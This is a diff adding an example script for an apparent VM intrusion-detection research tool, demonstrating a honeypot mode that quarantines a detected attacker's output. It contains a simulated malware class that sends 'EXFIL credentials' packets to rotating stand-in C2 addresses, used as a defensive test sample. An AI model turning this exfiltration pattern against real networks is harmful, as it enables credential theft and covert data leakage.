@@ -1,0 +1,78 @@
+#!/usr/bin/env python
+"""Honeypot response mode (§6 future-work extension, implemented).
+
+After the first detection, instead of suspending the VM, CRIMES keeps it
+running with every output quarantined and sensitive kernel structures
+write-trapped. The attacker believes the exfiltration succeeds; the
+operator gets a live feed of contacted hosts, attempted writes, and
+per-epoch findings.
+
+Run:  python examples/honeypot.py
+"""
+
+from repro import Crimes, CrimesConfig, WindowsGuest
+from repro.analyzer import HoneypotSession
+from repro.detectors import OutputSignatureModule
+from repro.guest.devices import Packet
+from repro.workloads.base import GuestProgram
+
+
+class PersistentExfiltrator(GuestProgram):
+    """Malware that rotates C2 endpoints every epoch once active."""
+
+    name = "persistent-exfil"
+
+    def __init__(self, trigger_epoch=2):
+        super().__init__()
+        self.trigger_epoch = trigger_epoch
+        self._epoch = 0
+
+    def step(self, start_ms, interval_ms):
+        self._epoch += 1
+        if self._epoch >= self.trigger_epoch:
+            self.vm.nic.send(
+                Packet(
+                    "192.168.1.76:49164",
+                    "203.0.113.%d:8080" % (10 + self._epoch),
+                    b"EXFIL credentials batch %d" % self._epoch,
+                )
+            )
+        return {}
+
+    def state_dict(self):
+        return {"epoch": self._epoch}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+
+
+def main():
+    vm = WindowsGuest(name="honeypot-target", memory_bytes=16 * 1024 * 1024,
+                      seed=19)
+    crimes = Crimes(
+        vm,
+        CrimesConfig(epoch_interval_ms=50.0, auto_respond=False, seed=19),
+    )
+    crimes.install_module(OutputSignatureModule())
+    crimes.add_program(PersistentExfiltrator(trigger_epoch=2))
+
+    crimes.start()
+    crimes.run(max_epochs=4)
+    finding = crimes.records[-1].detection.critical_findings()[0]
+    print("detected: %s" % finding.summary)
+    print("real packets escaped so far: %d"
+          % len(crimes.external_sink.packets))
+
+    print("\nengaging honeypot mode instead of suspending...")
+    session = HoneypotSession(crimes).engage()
+    session.observe(epochs=5)
+    session.disengage()
+
+    print("real packets escaped after 5 honeypot epochs: %d"
+          % len(crimes.external_sink.packets))
+    print()
+    print(session.report().render())
+
+
+if __name__ == "__main__":
+    main()
